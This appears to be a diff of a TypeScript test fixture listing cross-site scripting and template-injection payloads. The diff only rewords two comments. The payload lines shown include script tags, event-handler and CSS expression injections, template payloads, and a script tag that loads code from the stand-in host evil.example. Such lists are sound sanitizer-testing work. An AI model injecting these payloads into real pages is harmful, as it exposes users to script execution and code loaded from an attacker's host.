@@ -1,4 +1,4 @@
-/** Ways in which text has been made to run in somebody's browser, and what this dialect in particular might be made to do. */
+/** Known script injections, and injections specific to this dialect. */
 export const INJECTIONS: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src="https://evil.example/x.js"></script>',
@@ -133,7 +133,7 @@ export const INJECTIONS: readonly string[] = [
   '" style="x:expression(alert(1))',
   '" autofocus onfocus="alert(1)',
   '`-alert(1)-`',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: as somebody would write it
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of the attack
   '${alert(1)}',
   "{{constructor.constructor('alert(1)')()}}",
   '{%raw%}<script>alert(1)</script>',
